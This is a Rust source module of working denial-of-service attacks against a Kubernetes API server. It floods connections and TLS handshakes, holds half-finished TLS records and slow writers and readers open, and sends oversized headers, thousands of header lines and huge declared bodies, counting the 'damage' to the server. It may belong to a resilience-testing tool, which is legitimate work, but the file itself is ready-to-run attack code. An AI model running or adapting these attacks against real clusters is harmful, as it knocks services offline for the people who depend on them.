//! Attacks that hold much and want little.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use socket2::{Domain, Socket, Type};

use super::{Damage, Target, Tls, on_threads};

const MANY: usize = 10_000;
/// As many as one pod may have, and some.
const CONNECTIONS: usize = 300;
/// Few enough that all read their answers within the minute that the API server gives them.
const READERS: usize = 20;
/// Few enough that the API server has places for others.
const WRITERS: usize = 80;
const THREADS: usize = 4;
const MEGABYTE: usize = 1 << 20;
/// How long the end of a connection is listened to.
const END: Duration = Duration::from_millis(200);
/// How long a look takes at whether there is an answer.
const LOOK: Duration = Duration::from_millis(1);
/// How much longer than an attack it may take until whoever is slow is told.
const TELLING: Duration = Duration::from_mins(2);

/// Connects without waiting for the answer, and holds what it gets.
pub(super) fn connections(target: &Target) -> Damage {
    let mut damage = Damage::default();
    let mut held = Vec::new();
    for _ in 0..MANY {
        let Ok(socket) = Socket::new(Domain::for_address(target.to), Type::STREAM, None) else { break };
        if socket.set_nonblocking(true).is_err() {
            break;
        }
        // Under way: the kernel goes on with it.
        let _ = socket.connect(&target.to.into());
        held.push(TcpStream::from(socket));
        damage.connections += 1;
    }
    wait_for(target);
    for mut stream in held {
        let is_open = matches!(stream.read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock);
        damage.closed += u64::from(!is_open);
    }
    damage
}

pub(super) fn handshakes(target: &Target) -> Damage {
    on_threads(THREADS * 8, || {
        let mut damage = Damage::default();
        while !target.is_over() {
            match target.shake_hands(b"h2") {
                Ok(_) => damage.connections += 1,
                Err(_) => damage.closed += 1,
            }
        }
        damage
    })
}

/// A record that says it is longer than what comes.
pub(super) fn half_handshakes(target: &Target) -> Damage {
    let mut damage = Damage::default();
    let mut held = Vec::new();
    while !target.is_over() {
        if held.len() < CONNECTIONS
            && let Ok(mut tcp) = target.connect()
            && tcp.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252]).is_ok()
        {
            damage.connections += 1;
            held.push(tcp);
        } else {
            std::thread::sleep(END);
        }
        let before = held.len();
        held.retain_mut(|tcp| !has_ended(tcp));
        damage.closed += u64::try_from(before - held.len()).unwrap_or_default();
    }
    damage
}

pub(super) fn idle(target: &Target) -> Damage {
    on_threads(THREADS, || {
        let (held, mut damage) = many(target);
        wait_for(target);
        drop(held);
        damage.closed += u64::try_from(CONNECTIONS / THREADS).unwrap_or_default() - damage.connections;
        damage
    })
}

pub(super) fn headers(target: &Target) -> Damage {
    let much = vec![b'a'; MEGABYTE - (64 << 10)];
    on_threads(THREADS, || {
        let (mut held, mut damage) = many(target);
        for tls in &mut held {
            let begun = tls.write_all(b"GET /version HTTP/1.1\r\nHost: kubernetes.default.svc\r\nX: ");
            let _ = begun.and_then(|()| tls.write_all(&much)).and_then(|()| tls.flush());
        }
        wait_for(target);
        listen_to_all(held, &mut damage);
        damage
    })
}

pub(super) fn header_lines(target: &Target) -> Damage {
    let lines = "x-line: 1\r\n".repeat(1000);
    let request = format!("GET {} HTTP/1.1\r\nHost: kubernetes.default.svc\r\n{lines}\r\n", target.path);
    on_threads(THREADS, || {
        let mut damage = Damage::default();
        while !target.is_over() {
            ask(target, request.as_bytes(), &mut damage);
        }
        damage
    })
}

pub(super) fn large_heads(target: &Target) -> Damage {
    let line = "a".repeat(MEGABYTE + (128 << 10));
    let request = request(target, "GET", &format!("x-line: {line}\r\n"));
    on_threads(THREADS, || {
        let mut damage = Damage::default();
        while !target.is_over() {
            ask(target, request.as_bytes(), &mut damage);
        }
        damage
    })
}

/// Half of them have sent their head, and go on with a body.
pub(super) fn slow_writers(target: &Target) -> Damage {
    let head = request(target, "POST", "Content-Type: application/json\r\nContent-Length: 100000\r\n");
    let beginnings = ["GET /".as_bytes(), head.as_bytes()];
    on_threads(THREADS, || {
        let mut damage = Damage::default();
        let mut writers = Vec::new();
        for number in 0..WRITERS / THREADS {
            let Ok(mut tls) = target.shake_hands(b"http/1.1") else { continue };
            let beginning = beginnings[number % beginnings.len()];
            damage.connections += 1;
            if tls.write_all(beginning).and_then(|()| tls.flush()).is_ok() {
                let _ = tls.sock.set_read_timeout(Some(LOOK));
                writers.push(tls);
            }
        }
        let latest = target.until + TELLING;
        while !writers.is_empty() && Instant::now() < latest {
            writers.retain_mut(|tls| {
                // Refused, it can't be written.
                let _ = tls.write_all(b"x").and_then(|()| tls.flush());
                let mut answer = [0; 512];
                match tls.read(&mut answer) {
                    Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => return true,
                    read => damage.answer(&answer[..read.unwrap_or_default()]),
                }
                false
            });
            std::thread::sleep(END);
        }
        damage
    })
}

/// They read at the end, and must get all of it.
pub(super) fn slow_readers(target: &Target) -> Damage {
    let request = request(target, "GET", "Connection: close\r\n");
    on_threads(THREADS, || {
        let mut damage = Damage::default();
        let mut held: Vec<Tls> = (0..READERS / THREADS).filter_map(|_| target.shake_hands(b"http/1.1").ok()).collect();
        for tls in &mut held {
            damage.connections += 1;
            let _ = tls.write_all(request.as_bytes()).and_then(|()| tls.flush());
        }
        wait_for(target);
        for mut tls in held {
            let mut answer = Vec::new();
            let whole = tls.read_to_end(&mut answer).is_ok();
            damage.answer(&answer);
            if whole {
                damage.read += u64::try_from(answer.len()).unwrap_or_default();
            } else {
                damage.closed += 1;
            }
        }
        damage
    })
}

pub(super) fn large_bodies(target: &Target) -> Damage {
    let head = request(target, "POST", "Content-Length: 100000000\r\nContent-Type: application/json\r\n");
    let request = [head.as_bytes(), &vec![b' '; MEGABYTE]].concat();
    on_threads(THREADS, || {
        let mut damage = Damage::default();
        while !target.is_over() {
            ask(target, &request, &mut damage);
        }
        damage
    })
}

fn request(target: &Target, method: &str, lines: &str) -> String {
    let Target { path, token, .. } = target;
    format!("{method} {path} HTTP/1.1\r\nHost: kubernetes.default.svc\r\nAuthorization: Bearer {token}\r\n{lines}\r\n")
}

/// One request on a connection of its own, and the beginning of its answer.
fn ask(target: &Target, request: &[u8], damage: &mut Damage) {
    let Ok(mut tls) = target.shake_hands(b"http/1.1") else {
        damage.closed += 1;
        return;
    };
    damage.connections += 1;
    // Refused in the middle of it, what is left can't be written.
    let _ = tls.write_all(request).and_then(|()| tls.flush());
    damage.answer(&beginning(&mut tls));
}

/// This thread's share of as many connections as there may be, and some.
fn many(target: &Target) -> (Vec<Tls>, Damage) {
    let mut damage = Damage::default();
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS / THREADS {
        if target.is_over() {
            break;
        }
        if let Ok(tls) = target.shake_hands(b"http/1.1") {
            damage.connections += 1;
            held.push(tls);
        }
    }
    (held, damage)
}

fn listen_to_all(held: Vec<Tls>, damage: &mut Damage) {
    for mut tls in held {
        let _ = tls.sock.set_read_timeout(Some(END));
        let answer = beginning(&mut tls);
        if !answer.is_empty() {
            damage.answer(&answer);
        }
    }
}

fn beginning(tls: &mut Tls) -> Vec<u8> {
    let mut buffer = [0; 512];
    let length = tls.read(&mut buffer).unwrap_or(0);
    buffer[..length].to_vec()
}

fn has_ended(tcp: &mut TcpStream) -> bool {
    if tcp.set_nonblocking(true).is_err() {
        return true;
    }
    !matches!(tcp.read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock)
}

fn wait_for(target: &Target) {
    while !target.is_over() {
        std::thread::sleep(Duration::from_millis(50));
    }
}
